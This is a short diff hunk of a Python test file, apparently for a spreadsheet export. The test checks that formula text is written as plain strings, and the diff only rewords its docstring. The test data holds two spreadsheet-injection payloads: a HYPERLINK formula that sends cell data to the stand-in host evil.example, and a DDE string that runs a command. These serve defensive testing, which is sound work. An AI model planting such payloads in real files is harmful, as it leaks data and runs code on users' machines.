@@ -70,7 +70,7 @@ def test_a_cell_longer_than_excel_allows_is_cut_with_a_note(tmp_path: Path) -> N
 
 
 def test_formula_text_is_written_as_a_string_never_a_formula(tmp_path: Path) -> None:
-    """Issue 17, item 3: a problem text a spreadsheet would run stays text in the batch sheet, exactly."""
+    """A problem text a spreadsheet would run stays text in the batch sheet, exactly."""
     hostile = {
         "question": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
         "rewritten_question": "+cmd|' /C calc'!A0",
